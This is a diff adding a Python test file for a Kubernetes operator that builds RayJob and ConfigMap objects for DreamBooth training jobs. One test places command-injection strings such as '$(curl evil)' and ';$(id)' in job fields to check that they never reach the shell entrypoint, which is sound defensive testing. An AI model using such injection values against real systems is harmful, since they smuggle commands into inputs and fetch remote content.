@@ -1,0 +1,104 @@
+"""The children of an attempt, and of the deletion of its data."""
+
+from __future__ import annotations
+
+import copy
+import re
+from typing import Any
+
+import pytest
+import yaml
+from devcluster import ControlPlane
+from simulation import RUNTIME, SETTINGS, job_with
+
+from dreambooth_api import environment
+from dreambooth_api.job import DreamBoothJob
+from dreambooth_operator.controller.children.attempt import attempt_children
+from dreambooth_operator.controller.children.erase_job import erase_children
+from dreambooth_operator.controller.children.rayjob import ENTRYPOINT
+from dreambooth_operator.controller.names import attempt_name, erase_name
+from dreambooth_operator.controller.observed import Job, Runtime
+from dreambooth_operator.controller.resolve import ResolvedJob, resolve
+
+
+def resolved(job: Job, runtime: Runtime = RUNTIME) -> ResolvedJob:
+    found = resolve(job, runtime, [])
+    assert isinstance(found, ResolvedJob), found
+    return found
+
+
+def children(job: Job, runtime: Runtime = RUNTIME) -> dict[str, Any]:
+    return {obj["kind"]: obj for _, obj in attempt_children(job, 1, resolved(job, runtime), SETTINGS)}
+
+
+def test_user_text_never_reaches_a_shell() -> None:
+    evil = '"; $(curl evil) `id`'
+    job = job_with(
+        {
+            "subject": {
+                "images": {"uri": "s3://b/x;$(id)"},
+                "class": evil,
+                "instancePrompt": f"a sks {evil}",
+            },
+            "output": {"uri": "s3://b/out;$(id)"},
+        }
+    )
+    ray_job = children(job)["RayJob"]["spec"]
+    assert (
+        ray_job["entrypoint"]
+        == ENTRYPOINT
+        == ('python -m dreambooth_trainer run /etc/dreambooth/job.yaml --out "$DREAMBOOTH_OUT"')
+    )
+    assert "curl evil" not in str(ray_job)
+    assert evil in children(job)["ConfigMap"]["data"]["job.yaml"].replace("''", "'")
+
+
+def test_pods_mount_the_job_file_that_the_trainer_reads() -> None:
+    job = job_with({"subject": {"images": {"pvc": {"claimName": "photos", "path": "dog"}}, "class": "dog"}})
+    made = children(job)
+    file = DreamBoothJob.model_validate(yaml.safe_load(made["ConfigMap"]["data"]["job.yaml"]))
+    assert file.spec.subject.images.uri == f"{environment.IMAGES_PATH}/dog"
+    assert file.spec.model
+    head = made["RayJob"]["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]
+    env = {e["name"]: e["value"] for e in head["containers"][0]["env"]}
+    assert env[environment.OUT] == f"{environment.OUTPUT_PATH}/dog"
+    assert env[environment.OUT_SHOWN] == "pvc://work/dog", "the location shown in the status"
+    assert env[environment.STORE] == f"{environment.OUTPUT_PATH}/.class-images"
+    assert head["containers"][0]["securityContext"]["readOnlyRootFilesystem"] is True
+    assert env[environment.PROGRESS_URL].endswith(":8082/v1/jobs/team/dog/attempts/1")
+    claims = {
+        v["name"]: v["persistentVolumeClaim"]["claimName"] for v in head["volumes"] if "persistentVolumeClaim" in v
+    }
+    assert claims == {"images": "photos", "output": "work"}
+
+
+@pytest.mark.parametrize("name", ["dog", "3dogs", "a" * 63, "a-" * 31 + "a", "-"])
+def test_names_are_valid_for_kuberay_and_unique_per_attempt(name: str) -> None:
+    job = job_with({}, name=name)
+    names = [attempt_name(job, attempt) for attempt in (1, 2, 999)] + [erase_name(job)]
+    assert len(set(names)) == 4
+    assert all(len(each) <= 47 and re.fullmatch(r"[a-z]([-a-z0-9]*[a-z0-9])?", each) for each in names)
+
+
+def test_builders_do_not_change_their_arguments() -> None:
+    job = job_with({"cluster": {"nodeSelector": {"a": "b"}, "tolerations": [{"key": "x", "operator": "Exists"}]}})
+    found = resolved(job)
+    before = copy.deepcopy(found)
+    first = attempt_children(job, 1, found, SETTINGS)
+    for _, obj in first:
+        obj.clear()
+    assert found == before
+    assert attempt_children(job, 1, found, SETTINGS) == attempt_children(job, 1, before, SETTINGS)
+
+
+def test_pods_satisfy_the_restricted_pod_security_standard(plane: ControlPlane, namespace: str) -> None:
+    job = job_with({"cluster": {"elastic": {"minWorkers": 1, "maxWorkers": 2}}})
+    cluster = children(job)["RayJob"]["spec"]["rayClusterSpec"]
+    templates = {
+        "head": cluster["headGroupSpec"]["template"],
+        "worker": cluster["workerGroupSpecs"][0]["template"],
+        "erase": erase_children(job, resolved(job))[-1][1]["spec"]["template"],
+    }
+    plane.kubectl("create", "serviceaccount", templates["head"]["spec"]["serviceAccountName"], "-n", namespace)
+    for name, template in templates.items():
+        plane.apply({"apiVersion": "v1", "kind": "Pod", **template, "metadata": {"name": name, "namespace": namespace}})
